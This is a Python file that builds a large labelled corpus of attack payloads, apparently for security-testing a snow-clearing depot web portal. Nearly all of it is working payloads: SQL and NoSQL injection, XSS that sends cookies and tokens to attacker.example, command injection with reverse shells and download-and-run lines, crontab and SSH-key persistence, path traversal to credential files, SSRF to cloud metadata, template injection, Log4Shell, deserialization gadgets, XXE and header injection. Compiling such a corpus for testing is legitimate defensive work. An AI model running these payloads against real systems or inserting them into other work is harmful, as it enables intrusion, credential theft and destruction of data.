#!/usr/bin/env python3
"""Attack corpus for the snow-clearing depot portal (snowplough). Stdlib only."""
import json, os, random

SEED = 34002

def L(block):
    # one value per line as "class¦value"; ⏎ stands for a newline, ⇥ for a tab
    out = []
    for ln in block.split("\n"):
        if not ln.strip():
            continue
        cls, val = ln.split("¦", 1)
        out.append((cls.strip(), val.replace("⏎", "\n").replace("⇥", "\t").replace("␍", "\r")))
    return out

SQLI = L("""
union¦P3' UNION SELECT username, password_hash FROM depot_users-- -
union¦route 7' union all select null,null,concat(login,0x3a,pwd),null from staff#
union¦-1 UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()
union¦Gritter 4' UnIoN sElEcT version(),user(),3-- x
union¦1)) union select card_no,expiry from fuel_cards--
union¦Elm Way' union/**/select/**/group_concat(email)/**/from/**/residents-- -
union¦P2'/*!50000UNION*//*!50000SELECT*/1,@@version,3#
union¦0 union distinct select name, sql from sqlite_master--
union¦x') UNION SELECT NULL, string_agg(usename, ',') FROM pg_user--
union¦Mill Rd%27%20UNION%20SELECT%20login,pass%20FROM%20crew--
union¦salt' union select load_file('/etc/passwd'),2,3-- -
union¦9999 UNION ALL SELECT table_name, column_name FROM information_schema.columns WHERE table_name='rosters'
boolean¦Rowan Way' OR '1'='1
boolean¦O'Connor' or 1=1-- -
boolean¦admin'--
boolean¦P1' AND 1=1 AND 'a'='a
boolean¦P1' AND substring((select password from users limit 1),1,1)='a'-- -
boolean¦14 or 2>1
boolean¦Cedar Close' AND ascii(substr((SELECT user()),1,1))>100#
boolean¦") OR ("x"="x
boolean¦supervisor' OR 'x' LIKE 'x
boolean¦depot'||'1'='1
boolean¦1' AnD (sElEcT cOuNt(*) FrOm staff)>0-- -
boolean¦vehicle YX21' and exists(select * from admins where role='root')--
boolean¦gritter' or true-- -
boolean¦' OR 0x61=0x61 #
time¦P3'; WAITFOR DELAY '0:0:7'--
time¦1 AND SLEEP(6)
time¦Quarry Rd' AND (SELECT 1 FROM (SELECT SLEEP(8))x)-- -
time¦route' || pg_sleep(10)--
time¦1;SELECT pg_sleep(5)--
time¦x' AND BENCHMARK(8000000,SHA1('snow'))#
time¦IR-2024' OR IF(1=1,SLEEP(4),0)-- -
time¦1) AND 4321=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),9)--
time¦2 AND (SELECT CASE WHEN (1=1) THEN randomblob(900000000) ELSE 1 END)
time¦grit' AND sle/**/ep(5)-- -
error¦1 AND extractvalue(1,concat(0x7e,(SELECT database())))
error¦P5' AND updatexml(null,concat(0x3a,(select user())),null)-- -
error¦x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--
error¦1 AND 1=CAST((SELECT current_user) AS int)
error¦' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -
error¦1'||utl_inaddr.get_host_name((select banner from v$version where rownum=1))||'
stacked¦Bridge St'; DROP TABLE grit_runs;--
stacked¦P4'; UPDATE users SET role='admin' WHERE login='kev';--
stacked¦1; INSERT INTO depot_users(login,pwd,role) VALUES('ghost','x','admin')--
stacked¦note'; EXEC xp_cmdshell 'whoami';--
stacked¦0; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--
stacked¦x'; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--
stacked¦1; DELETE FROM salt_stock WHERE 1=1 --
stacked¦rota';SHUTDOWN WITH NOWAIT;--
stacked¦1; EXEC master..xp_dirtree '\\\\203.0.113.9\\s'--
orderby¦date DESC, (SELECT 1 FROM users WHERE SUBSTRING(password,1,1)='x')
orderby¦1,(select case when (1=1) then 1 else 1/0 end)
orderby¦priority,IF((SELECT COUNT(*) FROM admins)>0,sleep(3),1)
orderby¦(CASE WHEN (SELECT ascii(substring(pwd,1,1)) FROM staff LIMIT 1)>77 THEN route_id ELSE street END)
orderby¦3 procedure analyse(extractvalue(1,concat(0x7e,version())),1)
obfuscated¦P3'/**/Or/**/1/**/=/**/1#
obfuscated¦1'%0bUNION%0bSELECT%0bpassword%0bFROM%0busers-- -
obfuscated¦x'%2527%20or%25201=1--
obfuscated¦Elm%2527%2520UNION%2520SELECT%2520NULL%252Cpwd%2520FROM%2520staff--
obfuscated¦1 ＵＮＩＯＮ ＳＥＬＥＣＴ login, pwd FROM crew
obfuscated¦Ash Grove\\' OR 1=1-- -
obfuscated¦%bf%27 OR 1=1 -- 
obfuscated¦P1'+un/**/ion+se/**/lect+1,2,3--+
obfuscated¦1'	OR	'a'='a
obfuscated¦route'%09union%0a%0dselect%09@@version--
obfuscated¦1'/*!OR*/1=1/*!AND*/'a'='a
obfuscated¦x'||(SELECT CHR(115)||CHR(97)||CHR(108)||CHR(116) FROM dual)||'
second-order¦Niamh'-- 
second-order¦kev' WHERE 1=0 UNION SELECT password FROM users LIMIT 1 OFFSET 0-- -
csv-import¦P3,Main St,both,1' OR '1'='1
csv-import¦215,P2,04:00,05:05,2.5); DROP TABLE salt_stock;--
""")

XSS = L("""
reflected¦<script>alert(document.domain)</script>
reflected¦gritter 4"><script>fetch('//attacker.example/c?'+document.cookie)</script>
reflected¦route P3</title><script src=https://attacker.example/x.js></script>
reflected¦'><svg onload=alert(1)>
reflected¦Mill Rd<img src=x onerror=this.src='//attacker.example/?'+document.cookie>
reflected¦salt"><iframe src=javascript:alert(origin)>
reflected¦"><body onpageshow=alert`1`>
reflected¦</textarea><script>new Image().src='https://attacker.example/k?c='+encodeURIComponent(document.cookie)</script>
reflected¦<ScRiPt>prompt(8)</sCrIpT>
reflected¦<scr<script>ipt>alert(1)</scr</script>ipt>
stored¦Road still icy!!! <img src=1 onerror="fetch('https://attacker.example/s',{method:'POST',body:localStorage.getItem('token')})">
stored¦Thanks for clearing our lane <svg/onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
stored¦P3 done ✅ <details open ontoggle=alert(1)>
stored¦Complaint: plough hit my wall <video><source onerror="alert(document.cookie)">
stored¦Sian off 23/12 <input autofocus onfocus=alert(1)>
stored¦Bridge St is lethal <marquee onstart=confirm(1)>go slow</marquee>
stored¦Near miss on Moss Lane <a href="javascript:fetch('//attacker.example/'+document.cookie)">photo</a>
stored¦Gritter 2 off road <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
stored¦Tea's on <audio src=x onerror=alert(1)>
stored¦Kev's birthday 🎂<svg><animate onbegin=alert(1) attributeName=x dur=1s>
stored¦<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">salt delivery</p>
stored¦Snow wall at junction <div onpointerover="alert(1)" style="position:fixed;inset:0">
stored¦<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
stored¦Route P6<base href="https://attacker.example/">
stored¦IR-017 <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
stored¦Crew notes<form action=https://attacker.example/phish><input name=password placeholder="Re-enter depot password"><button>OK</button></form>
stored¦<embed src="https://attacker.example/x.svg" type="image/svg+xml">
stored¦Loader blocking barn B <svg><script href=data:,alert(1) />
stored¦<link rel=import href="https://attacker.example/p.html">
stored¦Amber warning <xss onbeforescriptexecute=alert(1)><script>1</script>
attr¦" onmouseover="alert(1)
attr¦' autofocus onfocus='alert(document.domain)
attr¦Rowan Way" style="x:expression(alert(1))
attr¦x" onerror="alert(1)" src="y
attr¦javascript:alert(document.cookie)
attr¦JaVaScRiPt:/**/alert(1)
attr¦java&#x09;script:alert(1)
attr¦&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
attr¦data:text/html,<script>alert(1)</script>
attr¦vbscript:msgbox("x")
attr¦" accesskey="x" onclick="alert(1)
attr¦https://maps.example.org/route" onclick="alert(1)
js-context¦';alert(String.fromCharCode(88,83,83))//
js-context¦"-alert(1)-"
js-context¦\\';alert(1);//
js-context¦</script><script>alert(1)</script>
js-context¦${alert(1)}
js-context¦P3';fetch('//attacker.example/'+document.cookie);var a='
js-context¦'-confirm`1`-'
js-context¦\\u0027;alert(1);//
encoded¦%3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded¦%253Csvg%2520onload%253Dalert(1)%253E
encoded¦&lt;img src=x onerror=alert(1)&gt;
encoded¦&#60;script&#62;alert(1)&#60;/script&#62;
encoded¦\\u003cimg src=x onerror=alert(1)\\u003e
encoded¦\\x3csvg onload=alert(1)\\x3e
encoded¦＜script＞alert(1)＜/script＞
encoded¦%uff1cscript%uff1ealert(1)%uff1c/script%uff1e
encoded¦<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;1&#x29;>
encoded¦<a href="&#x6a;avascript&colon;alert(1)">map</a>
encoded¦<svg><script>&#97;lert(1)</script></svg>
encoded¦%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
dom¦#"><img src=x onerror=alert(1)>
dom¦#javascript:alert(document.cookie)
dom¦?route=<img/src/onerror=import('//attacker.example/m.js')>
dom¦{"name":"<img src=x onerror=alert(1)>"}
dom¦__proto__[innerHTML]=<img/src/onerror=alert(1)>
markdown¦[Route map](javascript:alert(document.cookie))
markdown¦![photo](x" onerror="alert(1))
markdown¦[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
markdown¦<https://attacker.example/"><script>alert(1)</script>>
angular¦{{constructor.constructor('alert(1)')()}}
angular¦{{$on.constructor('fetch("//attacker.example/"+document.cookie)')()}}
angular¦<div v-html="'<img src=x onerror=alert(1)>'"></div>
svg-upload¦<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>
svg-upload¦<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>
""")

CMDI = L("""
chain¦routes/p4_north.gpx; cat /etc/passwd
chain¦P3 && id
chain¦grit.csv | nc attacker.example 4444 -e /bin/sh
chain¦YX21 ABC || curl -s http://attacker.example/s.sh | bash
chain¦salt_report.pdf;wget -qO- http://198.51.100.7/a|sh
chain¦export.csv & ping -n 3 203.0.113.5 &
chain¦2024-01-17; rm -rf /var/lib/depot/uploads/*
chain¦p3.gpx%0aid
chain¦station14%0d%0acat%20/etc/shadow
chain¦tracker.log;bash -i >& /dev/tcp/203.0.113.44/9001 0>&1
chain¦route_P5.gpx | tee /var/www/html/x.php <<< '<?php system($_GET["c"]); ?>'
chain¦8.8.8.8; curl -F "f=@/etc/hostname" https://attacker.example/up
chain¦gritter4 ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.8",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
chain¦roster.xlsx;perl -e 'use Socket;$i="198.51.100.3";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
chain¦logs/grit/2024-01-17.csv && echo c3NoLXJzYSBBQUFB | base64 -d >> ~/.ssh/authorized_keys
chain¦P7 ; crontab -l | { cat; echo "* * * * * curl attacker.example/b|sh"; } | crontab -
chain¦14 | mkfifo /tmp/f; nc 203.0.113.2 1337 < /tmp/f | /bin/sh > /tmp/f 2>&1
chain¦p2.gpx⏎uname -a
chain¦map.png; php -r '$s=fsockopen("203.0.113.77",80);exec("sh <&3 >&3 2>&3");'
chain¦station 5 ; sleep 12
chain¦sensor=14 || ping -c 10 127.0.0.1
chain¦IR-3.pdf & type C:\\Windows\\win.ini
chain¦export & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
chain¦timesheet.xlsx | certutil -urlcache -f http://198.51.100.20/r.exe %TEMP%\\r.exe
chain¦report.pdf && whoami /all
subst¦$(id)
subst¦Gritter `uname -a`
subst¦P3 $(curl -s attacker.example/$(whoami))
subst¦route_$(cat /etc/passwd | base64 -w0).gpx
subst¦`wget http://203.0.113.15/x -O /tmp/x;chmod +x /tmp/x;/tmp/x`
subst¦grit_$(sleep 9).csv
subst¦Amira$(nslookup $(hostname).attacker.example)
subst¦<(curl attacker.example/payload)
subst¦x=$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'); eval "$x"
subst¦p3.gpx;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)
evasion¦;cat${IFS}/etc/passwd
evasion¦|c'a't /e't'c/pa's'swd
evasion¦;/???/c?t /???/p??s??
evasion¦&&w\\h\\o\\a\\m\\i
evasion¦;{cat,/etc/passwd}
evasion¦$(tr '[A-Z]' '[a-z]'<<<"CAT /ETC/PASSWD")
evasion¦;c""url${IFS}attacker.example/z|s""h
evasion¦P3;${PATH:0:1}bin${PATH:0:1}sh -c id
evasion¦; X=$'\\x69\\x64'; $X
evasion¦;$0 -c 'id'
evasion¦%3B%20id
evasion¦%26%26cat%20%2Fetc%2Fpasswd
evasion¦%253Bwhoami
evasion¦|ca\\
evasion¦;ec''ho p$@wned > /var/www/html/t.txt
evasion¦a;IFS=,;`cat<<<uname,-a`
evasion¦;/bin/c[a]t /etc/pass[w]d
evasion¦&& who$()ami
argument¦--output=/var/www/html/shell.php http://attacker.example/s.txt
argument¦-oProxyCommand=curl${IFS}attacker.example/p|sh
argument¦--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument¦-exec sh -c 'id' ;
argument¦--upload-pack=touch /tmp/pwned
argument¦-F/tmp/x -X/var/www/html/x.php
argument¦-e "system('id')"
argument¦P3.gpx -o /etc/cron.d/backdoor
argument¦'-T', '-oSendmail=/tmp/x'
argument¦--use-compress-program='sh -c id'
imagemagick¦push graphic-context⏎viewbox 0 0 640 480⏎fill 'url(https://attacker.example/x.jpg"|curl "attacker.example/$(id))'⏎pop graphic-context
imagemagick¦map.pdf[0] -write msl:/tmp/x.msl
windows¦route.pdf | net user depotadm P@ss /add
windows¦%COMSPEC% /c dir c:\\
windows¦"& cmd.exe /c ping 203.0.113.3 &"
windows¦grit.csv && for /f %i in ('whoami') do nslookup %i.attacker.example
windows¦^&^& c^a^l^c
ssi¦<!--#exec cmd="cat /etc/passwd" -->
ssi¦<!--#include virtual="/etc/shadow" -->
env¦() { :;}; /bin/bash -c "curl attacker.example/sh | sh"
env¦() { _; } >_[$($())] { echo vulnerable; id; }
""")

TRAVERSAL = L("""
dotdot¦../../../../etc/passwd
dotdot¦routes/../../../../../etc/shadow
dotdot¦..\\..\\..\\..\\windows\\win.ini
dotdot¦logs/grit/../../../../proc/self/environ
dotdot¦../../config/database.yml
dotdot¦../../../var/www/depot/.env
dotdot¦shared/rosters/../../../../root/.ssh/id_rsa
dotdot¦../../../../../../../../../../etc/hosts
dotdot¦/../../../../etc/group
dotdot¦....//....//....//etc/passwd
dotdot¦..././..././..././etc/passwd
dotdot¦....\\\\....\\\\....\\\\boot.ini
dotdot¦.././.././.././etc/issue
dotdot¦routes/2024/../../../../../usr/local/etc/depot/secrets.json
dotdot¦p4_north.gpx/../../../../etc/passwd
dotdot¦..;/..;/..;/WEB-INF/web.xml
dotdot¦..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts
encoded¦%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded¦%2e%2e/%2e%2e/%2e%2e/etc/shadow
encoded¦..%2f..%2f..%2f..%2fproc%2fself%2fcmdline
encoded¦%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded¦..%252f..%252f..%252fvar%252flog%252fdepot%252faccess.log
encoded¦..%c0%af..%c0%af..%c0%afetc/passwd
encoded¦%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded¦..%e0%80%af..%e0%80%afetc%e0%80%afpasswd
encoded¦%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded¦..%u2216..%u2216..%u2216windows%u2216win.ini
encoded¦．．／．．／．．／etc／passwd
encoded¦..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd
encoded¦%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config
encoded¦..%255c..%255c..%255cwindows%255cwin.ini
nullbyte¦../../../../etc/passwd%00.gpx
nullbyte¦routes/../../../etc/shadow\\u0000.csv
nullbyte¦..\\..\\..\\windows\\win.ini%00.pdf
absolute¦/etc/passwd
absolute¦file:///etc/passwd
absolute¦C:\\Windows\\System32\\config\\SAM
absolute¦\\\\203.0.113.10\\share\\route.gpx
absolute¦/proc/self/fd/3
absolute¦/var/run/secrets/kubernetes.io/serviceaccount/token
wrapper¦php://filter/convert.base64-encode/resource=../config.php
wrapper¦php://filter/read=string.rot13/resource=index.php
wrapper¦zip://uploads/photo.jpg%23shell.php
wrapper¦phar://uploads/complaint_photo.jpg/x
wrapper¦expect://id
""")

SSRF = L("""
internal¦http://127.0.0.1:8080/admin
internal¦http://localhost:6379/
internal¦http://10.0.0.5/internal/api/users
internal¦http://192.168.1.1/cgi-bin/luci
internal¦https://172.16.4.20:8443/actuator/env
internal¦http://127.0.0.1:9200/_cat/indices
internal¦http://localhost:2375/containers/json
internal¦http://[::1]:80/server-status
internal¦http://0.0.0.0:5432/
internal¦http://tracker-db.internal:5984/_all_dbs
internal¦http://depot-intranet.local/hr/salaries.csv
internal¦http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal¦http://consul.service.consul:8500/v1/kv/?recurse
metadata¦http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata¦http://169.254.169.254/latest/user-data
metadata¦http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
metadata¦http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata¦http://100.100.100.200/latest/meta-data/
metadata¦http://169.254.170.2/v2/credentials/
metadata¦http://[fd00:ec2::254]/latest/meta-data/
alt-ip¦http://2130706433/admin
alt-ip¦http://0x7f000001/
alt-ip¦http://017700000001:8080/
alt-ip¦http://0177.0.0.1/
alt-ip¦http://127.1/
alt-ip¦http://0/
alt-ip¦http://[::ffff:127.0.0.1]/
alt-ip¦http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
alt-ip¦http://2852039166/latest/meta-data/
alt-ip¦http://0xa9.0xfe.0xa9.0xfe/latest/
alt-ip¦http://169.254.43518/latest/meta-data/
alt-ip¦http://①②⑦.⓪.⓪.①/
alt-ip¦http://127.0.0.1.nip.io/admin
confusion¦http://weather.example.net@127.0.0.1/admin
confusion¦https://weather.example.net.attacker.example/api/v2/roadsurface
confusion¦http://127.0.0.1#@weather.example.net/
confusion¦http://attacker.example\\@weather.example.net/
confusion¦http://localhost%2523@weather.example.net/
confusion¦https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
confusion¦http://rebind.attacker.example:8080/internal
confusion¦http://127.0.0.1%09.weather.example.net/
scheme¦gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A
scheme¦gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E
scheme¦dict://127.0.0.1:11211/stats
scheme¦file:///proc/self/environ
scheme¦ldap://127.0.0.1:389/%0astats
scheme¦tftp://203.0.113.9/route.gpx
scheme¦jar:http://attacker.example/x.zip!/route.gpx
scheme¦netdoc:///etc/passwd
embedded¦{"feed_url":"http://169.254.169.254/latest/meta-data/"}
""")

CODE = L("""
ssti¦{{7*'7'}}{{config.items()}}
ssti¦Dear {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti¦{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti¦{{ ''.__class__.__mro__[1].__subclasses__() }}
ssti¦{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}
ssti¦{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['eval']("__import__('os').system('id')") }}{% endif %}{% endfor %}
ssti¦{{lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read()}}
ssti¦{{ joiner.__init__.__globals__["o""s"].popen("id").read() }}
ssti¦{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}
ssti¦${T(java.lang.Runtime).getRuntime().exec('id')}
ssti¦<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti¦#set($r=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$r.waitFor()
ssti¦<%= `id` %>
ssti¦<%= File.read('/etc/passwd') %>
ssti¦{{= global.process.mainModule.require('child_process').execSync('id') }}
ssti¦#{7*7}#{T(java.lang.System).getenv()}
ssti¦{php}echo `id`;{/php}
ssti¦{system('cat /etc/passwd')}
ssti¦*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
ssti¦Hi {{resident_name}} {{range.constructor("return process.mainModule.require('child_process').execSync('id')")()}}
ssti¦{{#with "s" as |string|}}{{#with string.constructor}}{{#with (string.split "x") as |a|}}{{this.pop}}{{this.push "return process.env"}}{{/with}}{{/with}}{{/with}}
ssti¦@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))
ssti¦{{ "".__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read() }}
ssti¦{% import os %}{{ os.popen("id").read() }}
el¦${Runtime.getRuntime().exec("touch /tmp/x")}
el¦#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}
el¦%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}
el¦${pageContext.request.getSession().getServletContext()}
el¦${@java.lang.Runtime@getRuntime().exec('id')}
el¦{{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}}
el¦${{7*7}}${applicationScope}
log4shell¦${jndi:ldap://attacker.example:1389/a}
log4shell¦Gritter 4 ${jndi:rmi://203.0.113.12:1099/obj}
log4shell¦${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell¦${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.9/o}
log4shell¦${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell¦${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/z}
log4shell¦${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://attacker.example/q}
log4shell¦Bridge St ${jndi:ldaps://attacker.example/${sys:java.version}}
log4shell¦%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
log4shell¦${${upper:j}ndi:iiop://attacker.example/x}
eval¦__import__('os').system('id')
eval¦P3'); import os; os.system('curl attacker.example/p|sh'); print('
eval¦require('child_process').exec('nc 203.0.113.4 4444 -e /bin/sh')
eval¦process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval¦");system("id");//
eval¦<?php system($_REQUEST['c']); ?>
eval¦<?=`$_GET[0]`?>
eval¦';eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));//
eval¦eval(compile('import os\\nos.system("id")','x','exec'))
eval¦Function('return this')().process.exit()
eval¦1;this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")
eval¦${@print(system("id"))}
eval¦{"$where": "this.constructor.constructor('return process')().exit()"}
proto¦{"__proto__":{"isAdmin":true}}
proto¦{"constructor":{"prototype":{"role":"supervisor"}}}
proto¦__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s
proto¦{"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ"}}
proto¦constructor[prototype][allowedRoutes][]=ALL
proto¦{"settings":{"__proto__":{"execArgv":["--eval=require('child_process').execSync('id')"]}}}
formula¦=cmd|' /C calc'!A0
formula¦=HYPERLINK("https://attacker.example/?d="&A1&B1,"Route map")
formula¦+cmd|'/c powershell IEX(wget attacker.example/p)'!A1
formula¦-2+3+cmd|' /C notepad'!'A1'
formula¦@SUM(1+9)*cmd|' /C calc'!A0
formula¦=IMPORTXML(CONCAT("https://attacker.example/?", A2:E2), "//a")
formula¦Rowan Way,=WEBSERVICE("https://attacker.example/x?"&B2)
formula¦	=DDE("cmd";"/C calc";"x")
formula¦=IMAGE("https://attacker.example/p.png?"&C3)
xxe¦<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><route><name>&x;</name></route>
xxe¦<!DOCTYPE gpx [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]><gpx/>
xxe¦<?xml version="1.0"?><!DOCTYPE a [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><stock>&s;</stock>
xxe¦<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&d;</x>
xxe¦<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>
xxe¦<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY % p SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"><!ENTITY % e "<!ENTITY &#x25; ex SYSTEM 'http://attacker.example/?%p;'>">%e;%ex;]><x/>
deser¦O:8:"Incident":1:{s:4:"file";s:11:"/etc/passwd";}
deser¦rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==
deser¦!!python/object/apply:os.system ["curl attacker.example/y|sh"]
deser¦{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser¦cos⏎system⏎(S'id'⏎tR.
deser¦{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deser¦--- !ruby/object:Gem::Installer⏎i: x⏎--- !ruby/object:Gem::Requirement⏎requirements: !ruby/object:Gem::DependencyList⏎  specs: [id]
deser¦_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
deser¦a:2:{i:0;O:15:"Monolog\\Handler":1:{s:6:"stream";s:19:"php://filter/../x";}i:1;i:1;}
""")

NOSQLI = L("""
operator¦{"login": "kev", "password": {"$ne": null}}
operator¦{"username": {"$gt": ""}, "password": {"$gt": ""}}
operator¦password[$ne]=x
operator¦login[$regex]=^adm&password[$exists]=true
operator¦{"route": {"$regex": ".*"}, "$comment": "dump all"}
operator¦{"role": {"$in": ["admin", "supervisor"]}}
operator¦user[$nin][]=nobody
operator¦{"street": {"$where": "sleep(5000) || true"}}
operator¦{"pin": {"$regex": "^1"}}
operator¦{"$or": [{"login": "amira"}, {"1": {"$eq": 1}}]}
where¦'; return true; var x='
where¦1'; while(true){}; '
where¦this.password.match(/^a.*/)
where¦{"$where": "function(){ return this.salary > 0 }"}
where¦'||db.getCollectionNames().length>0||'
where¦0;sleep(3000)
agg¦[{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "leak"}}]
agg¦{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}
agg¦[{"$out": "depot_users"}]
agg¦{"$group": {"_id": "$password"}}
json-string¦{"route":"P3","notes":{"$gt":""}}
json-string¦{"filter":"{\\"password\\":{\\"$regex\\":\\"^\\"}}"}
json-string¦Rowan Way", "$where": "1 == 1
couch¦_all_docs?include_docs=true
couch¦{"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
redis¦P3\\r\\nCONFIG SET dir /var/www/html\\r\\n
redis¦*3⏎$3⏎SET⏎$4⏎role⏎$5⏎admin
""")

CRLF = L("""
log-forging¦Gritted P3 at 04:10⏎2024-01-17 04:12:00 INFO user=admin action=login result=success
log-forging¦route done%0a[INFO] salt stock adjusted to 0 by supervisor
log-forging¦Kev%0d%0a2024-01-18T05:00:00Z AUDIT grant role=admin user=ghost
log-forging¦IR-017 closed␍⏎[WARN] incident IR-018 deleted by manager
log-forging¦P1 done ✅⏎⏎=== Shift handover signed by R. Patel ===
log-forging¦Elm Way\\u000a127.0.0.1 - admin [17/Jan/2024:04:00:00] "GET /admin HTTP/1.1" 200
log-forging¦complaint text%E5%98%8A%E5%98%8DINFO: complaint resolved
log-forging¦search%0D%0A%1B[31mALERT%1B[0m system compromised
header¦en%0d%0aSet-Cookie:%20session=attacker
header¦/routes?lang=fr%0d%0aLocation:%20https://attacker.example/
header¦x%0D%0AX-Forwarded-For:%20127.0.0.1
header¦P3%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
header¦utf-8␍⏎Access-Control-Allow-Origin: https://attacker.example
header¦report.pdf"%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>alert(1)</script>
header¦%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1
header¦depot%250d%250aRefresh:%200;url=https://attacker.example
splitting¦/search?q=x%0d%0a%0d%0a<html><body>Depot login expired</body></html>
splitting¦en%0d%0aContent-Length:%2035%0d%0a%0d%0a<script>document.location='//attacker.example'</script>
splitting¦P3␍⏎␍⏎HTTP/1.1 302 Found␍⏎Location: https://attacker.example/
mail¦resident@example.org%0aBcc: everyone@attacker.example
mail¦Icy road on Elm Way⏎Bcc: list@attacker.example⏎Content-Type: text/html
mail¦joan@example.com␍⏎Cc: spam1@attacker.example, spam2@attacker.example
